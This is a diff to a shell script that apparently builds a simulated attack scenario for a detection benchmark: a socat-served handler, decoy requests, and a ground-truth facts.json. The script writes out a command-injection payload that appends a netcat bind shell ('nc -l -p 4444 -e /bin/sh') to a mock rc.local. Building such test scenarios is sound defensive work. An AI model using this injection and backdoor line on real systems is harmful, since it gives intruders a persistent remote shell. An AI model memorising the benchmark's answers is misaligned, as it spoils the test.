@@ -8,7 +8,9 @@
 work=$(realpath -m "$1"); nonce=$2
 mkdir -p "$work"/{svc,victim}
 svc_pid=
-trap 'kill $svc_pid 2>/dev/null || true' EXIT
+attacker_host 3
+trap 'cleanup $svc_pid' EXIT
+background_noise "$work"
 
 cat > "$work/svc/handler.sh" <<HANDLER
 #!/bin/sh
@@ -20,25 +22,25 @@ HANDLER
 chmod +x "$work/svc/handler.sh"
 echo "#!/bin/sh" > "$work/victim/rc.local"
 port=$(free_port)
-socat "TCP-LISTEN:$port,bind=127.0.0.1,reuseaddr,fork" "EXEC:$work/svc/handler.sh" &
+socat "TCP-LISTEN:$port,bind=$host_ip,reuseaddr,fork" "EXEC:$work/svc/handler.sh" &
 svc_pid=$!
-wait_port "$port"
+wait_listen "$host_ip" "$port"
 client_port=$(free_port)
 
 # Benign requests before the attack.
-echo "gateway.local" | nc -q 2 127.0.0.1 "$port" >/dev/null
-echo "camera.local" | nc -q 2 127.0.0.1 "$port" >/dev/null
+echo "gateway.local" | nc -q 2 "$host_ip" "$port" >/dev/null
+echo "camera.local" | nc -q 2 "$host_ip" "$port" >/dev/null
 settle
 
-# The attack: a command injected from a fixed client port.
+# The attack, from the attacker's host: a command injected from a fixed client port.
 echo "x; echo 'nc -l -p 4444 -e /bin/sh # $nonce' >> $work/victim/rc.local" |
-    nc -q 2 -p "$client_port" 127.0.0.1 "$port" >/dev/null
+    on_attacker nc -q 2 -p "$client_port" "$host_ip" "$port" >/dev/null
 settle
 detect_at=$(now)
 settle
 
 # After: another benign request, and an administrator who reads the boot script.
-echo "sensor.local" | nc -q 2 127.0.0.1 "$port" >/dev/null
+echo "sensor.local" | nc -q 2 "$host_ip" "$port" >/dev/null
 cat "$work/victim/rc.local" > /dev/null
 settle
 
@@ -47,10 +49,10 @@ cat > "$work/facts.json" <<JSON
   "scenario": "service",
   "damaged": $(json_str "$work/victim/rc.local"),
   "detect_at": $detect_at,
-  "entry": "socket:127.0.0.1:$client_port",
+  "entry": "socket:$atk_ip:$client_port",
   "chain": $(json_list "socat TCP-LISTEN:$port" "$work/svc/handler.sh" "echo checking x; echo"),
   "decoys": $(json_list "gateway.local" "camera.local" "sensor.local"),
-  "unique": $(json_list "$work/svc/handler.sh"),
+  "unique": $(json_list "/bin/sh $work/svc/handler.sh"),
   "modified": $(json_list "$work/svc/requests.log" "$work/victim/rc.local")
 }
 JSON
